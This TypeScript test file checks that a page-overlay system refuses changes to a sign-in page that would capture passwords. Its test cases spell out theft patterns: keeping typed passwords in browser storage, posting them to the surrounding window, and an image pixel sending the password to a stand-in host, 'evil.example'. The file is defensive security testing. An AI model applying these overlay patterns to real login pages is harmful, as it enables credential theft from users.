import { beforeAll, describe, expect, it } from 'vitest';
import type { Json, OverlayOperation } from '#engine/document';
import { type ChangedPages, readChangedPages } from '#tests/security/changed-page.ts';
import { button, codesOf, put, set, setPage, shippedAt, text } from '#tests/security/changes.ts';

let pages: ChangedPages;
beforeAll(async () => {
  pages = await readChangedPages();
});

const password = { $: 'state.password' };

describe('P44 attack 1: an overlay on the sign-in page takes passwords', () => {
  it.each<[string, () => OverlayOperation[]]>([
    [
      'a password kept in the browser as it is typed',
      () => [set('password', ['on'], { change: [{ do: 'keep', key: 'x.stolen', value: password }] })],
    ],
    [
      'a password taken from the event',
      () => [set('password', ['on'], { change: [{ do: 'keepInTab', key: 'x.stolen', value: { $: 'event.value' } }] })],
    ],
    [
      'the whole state kept',
      () => [set('password', ['on'], { blur: [{ do: 'keepInTab', key: 'x.stolen', value: { $: 'state' } }] })],
    ],
    [
      'a password in the address of a picture',
      () => [
        put('card', {
          id: 'x.pixel',
          widget: 'Image',
          props: { src: { $: "'https://evil.example/?' + state.password" }, alt: '' },
        }),
      ],
    ],
    ['a password shown', () => [put('card', { id: 'x.text', widget: 'Text', props: { text: password } })]],
    [
      'another field on the same state',
      () => [
        put('card', { id: 'x.copy', widget: 'TextField', props: { label: text('Copy') }, bind: 'state.password' }),
      ],
    ],
    [
      'a password sent to the window around',
      () => [put('card', button([{ do: 'postMessage', type: 'stolen', payload: password }]))],
    ],
    [
      'what was stolen before sent on',
      () => [
        setPage(
          ['load'],
          [
            {
              do: 'recall',
              key: 'stolen',
              path: 'state.username',
              then: [{ do: 'postMessage', type: 'stolen', payload: { $: 'state.username' } }],
            },
          ],
          pages.source('session.login').load as unknown as Json,
        ),
      ],
    ],
    ['a condition on the password', () => [set('subtitle', ['when'], "state.password.startsWith('a')")]],
    [
      'a link to an address without https',
      () => [put('card', { id: 'x.link', widget: 'Link', props: { label: text('Help'), href: 'http://example.org' } })],
    ],
    [
      'a frame',
      () => [
        put('card', { id: 'x.frame', widget: 'Frame', props: { label: text('Frame'), src: 'https://example.org' } }),
      ],
    ],
    [
      'another call of the form',
      () => [
        set(
          'form',
          ['on', 'submit'],
          [{ do: 'keep', key: 'x.stolen', value: password }],
          shippedAt(pages, 'session.login', 'form', 'on', 'submit'),
        ),
      ],
    ],
  ])('%s', (_title, operations) => {
    expect(codesOf(pages, 'session.login', ...operations())).not.toEqual([]);
  });
});

describe('P43 P44 a form that a change puts where people type passwords', () => {
  it.each([
    ['a fragment of the sign-in page', 'session.copyright'],
    ['the pictures of the sign-in page', 'session.pictures'],
    ['the third parties of the sign-in page', 'session.thirdLogins'],
    ['a fragment beside the own password', 'account.session'],
    ['the page around the secrets of a third party', 'integrate.wechat'],
  ])('is refused in %s', (_title, id) => {
    const root = pages.source(id).body?.id ?? '';
    const form = [
      setPage(['state', 'mine'], { type: 'string', default: '' }),
      put(root, { id: 'x.field', widget: 'TextField', props: { label: text('Password') }, bind: 'state.mine' }),
      put(root, button([{ do: 'keep', key: 'x.mine', value: { $: 'state.mine' } }])),
    ];
    expect(codesOf(pages, id, ...form)).toEqual(['CHANGE_CLOSED']);
  });

  it.each([['session.copyright'], ['integrate.wechat']])('and a plain text is not, in %s', (id) => {
    const root = pages.source(id).body?.id ?? '';
    expect(codesOf(pages, id, put(root, { id: 'x.text', widget: 'Text', props: { text: text('Hi') } }))).toEqual([]);
  });
});
